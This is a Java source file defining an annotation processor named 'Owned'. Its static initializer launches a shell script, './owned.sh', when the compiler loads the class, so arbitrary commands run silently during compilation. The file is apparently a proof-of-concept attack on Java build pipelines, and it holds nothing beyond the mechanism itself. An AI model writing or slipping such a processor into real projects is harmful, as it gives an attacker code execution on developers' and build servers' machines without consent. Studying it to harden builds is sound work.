import java.util.Set;
import javax.annotation.processing.*;
import javax.lang.model.SourceVersion;
import javax.lang.model.element.TypeElement;

@SupportedAnnotationTypes("*")
public class Owned extends AbstractProcessor {
    static {
        try {
            execute();
        } catch (Exception error) {
            throw new ExceptionInInitializerError(error);
        }
    }

    static void execute() throws Exception {
        new ProcessBuilder("sh", "./owned.sh").start().waitFor();
    }

    @Override
    public SourceVersion getSupportedSourceVersion() {
        return SourceVersion.latest();
    }

    @Override
    public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
        return false;
    }
}
